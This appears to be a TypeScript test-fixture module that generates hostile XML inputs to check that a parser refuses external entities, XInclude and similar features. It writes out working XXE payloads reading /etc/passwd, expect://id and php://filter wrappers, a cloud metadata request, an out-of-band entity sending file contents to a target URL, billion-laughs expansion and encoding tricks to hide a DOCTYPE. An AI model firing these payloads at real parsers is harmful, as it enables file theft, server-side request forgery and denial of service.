// XML that asks a parser to open a file, request a URL, or expand endlessly.

/** @param target a URL that detects requests. */
export function entityDocuments(target: string): readonly string[] {
  const file = 'file:///etc/passwd'
  const title = (text: string): string => `<TrailImageDetails><title>${text}</title></TrailImageDetails>`
  const levels = Array.from(
    { length: 10 },
    (_, level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`,
  )
  const subset = (declarations: string, body = '&x;'): string =>
    `<!DOCTYPE TrailImageDetails [${declarations}]>${title(body)}`
  return [
    subset(`<!ENTITY x SYSTEM "${file}">`),
    subset(`<!ENTITY x SYSTEM "${target}">`),
    subset(`<!ENTITY x PUBLIC "any" "${target}">`),
    subset(`<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=${file}">`),
    subset(`<!ENTITY x SYSTEM "expect://id">`),
    subset(`<!ENTITY x SYSTEM "/dev/random">`),
    subset(`<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">`),
    subset(`<!ENTITY % p SYSTEM "${target}"> %p;`, 'x'),
    subset(`<!ENTITY % f SYSTEM "${file}"><!ENTITY % e "<!ENTITY x SYSTEM '${target}?%f;'>"> %e;`),
    subset(`<!ELEMENT title ANY><!ATTLIST title a CDATA "${'x'.repeat(1_000)}">`, 'x'),
    subset(`<!ENTITY a0 "lol">${levels.join('')}`, '&a10;'),
    subset(`<!ENTITY x "${'x'.repeat(5_000)}">`, '&x;'.repeat(3_000)),
    subset(`<!ENTITY x "&y;"><!ENTITY y "&x;">`),
    subset(`<!NOTATION n SYSTEM "${target}"><!ENTITY x SYSTEM "${file}" NDATA n>`),
    `<!DOCTYPE TrailImageDetails SYSTEM "${target}">${title('x')}`,
    `<!DOCTYPE TrailImageDetails PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "${target}">${title('x')}`,
    `<!DOCTYPE TrailImageDetails>${title('x')}`,
    `<!DOCTYPE\nTrailImageDetails\n>${title('x')}`,
    `<?xml version="1.0" standalone="no"?>\n<!-- a --><!DOCTYPE TrailImageDetails []>${title('x')}`,
    `${title('x')}<!DOCTYPE TrailImageDetails>`,
    title('<!DOCTYPE a>'),
    `<!DOCTYPE TrailImageDetails [<!ENTITY x SYSTEM "${target}"`,
  ]
}

/** The same without a DOCTYPE: it is ignored, and nothing is requested. */
export function includingDocuments(target: string): readonly string[] {
  const wrapped = (inside: string): string =>
    `<TrailImageDetails>${inside}<title>kept</title></TrailImageDetails>`
  return [
    wrapped(
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
    ),
    wrapped(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${target}"/>`),
    `<?xml-stylesheet type="text/xsl" href="${target}"?>${wrapped('')}`,
    `<TrailImageDetails xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${target}" xsi:noNamespaceSchemaLocation="${target}"><title>kept</title></TrailImageDetails>`,
    `<TrailImageDetails xml:base="${target}"><title>kept</title></TrailImageDetails>`,
    wrapped(
      `<?php system("id") ?><!-- <!DOCTYPE a SYSTEM "${target}"> --><caption><![CDATA[<!DOCTYPE a>]]></caption>`,
    ),
    wrapped(`<image xlink:href="${target}" xmlns:xlink="http://www.w3.org/1999/xlink"/>`),
  ]
}

const utf16 = (text: string, isBigEndian: boolean): Buffer => {
  const bytes = Buffer.from(text, 'utf16le')
  return isBigEndian ? bytes.swap16() : bytes
}

export interface Encoded {
  readonly name: string
  readonly type: string
  readonly body: Buffer
}

/** The document in every accepted encoding, declared in every way. */
export function encodings(xml: string): readonly Encoded[] {
  const type = 'application/xml'
  return [
    { name: 'UTF-8', type, body: Buffer.from(xml) },
    { name: 'UTF-8 with a mark', type, body: Buffer.from(`\u{feff}${xml}`) },
    { name: 'UTF-8 by charset', type: `${type}; charset=utf-8`, body: Buffer.from(xml) },
    { name: 'UTF-16LE', type, body: utf16(xml, false) },
    { name: 'UTF-16BE', type, body: utf16(xml, true) },
    { name: 'UTF-16LE with a mark', type, body: utf16(`\u{feff}${xml}`, false) },
    { name: 'UTF-16BE with a mark', type, body: utf16(`\u{feff}${xml}`, true) },
    { name: 'UTF-16 by charset', type: `${type}; charset=UTF-16`, body: utf16(xml, true) },
    { name: 'UTF-16LE by charset', type: `text/xml; charset="utf-16le"`, body: utf16(xml, false) },
  ]
}

/** Unsupported encodings: a DOCTYPE hidden in one is refused with the encoding. */
export function otherEncodings(xml: string): readonly Encoded[] {
  const utf7 = `<?xml version="1.0" encoding="UTF-7"?>${xml.replaceAll('<', '+ADw-').replaceAll('!', '+ACE-')}`
  const utf32 = Buffer.alloc(4 * (xml.length + 1))
  for (const [index, character] of Array.from(`\u{feff}${xml}`).entries())
    utf32.writeUInt32LE(character.codePointAt(0) ?? 0, 4 * index)
  const declared = (name: string): Buffer => Buffer.from(`<?xml version="1.0" encoding="${name}"?>${xml}`)
  return [
    { name: 'UTF-7', type: 'application/xml', body: Buffer.from(utf7) },
    { name: 'UTF-7 by charset', type: 'application/xml; charset=utf-7', body: Buffer.from(utf7) },
    { name: 'UTF-32', type: 'application/xml', body: utf32 },
    { name: 'EBCDIC', type: 'application/xml', body: declared('ebcdic-cp-us') },
    { name: 'ISO-8859-1', type: 'application/xml', body: declared('ISO-8859-1') },
    { name: 'UTF-16 declared, UTF-8 sent', type: 'application/xml', body: declared('UTF-16') },
    { name: 'UTF-8 declared, UTF-16 sent', type: 'application/xml; charset=utf-8', body: utf16(xml, false) },
  ]
}
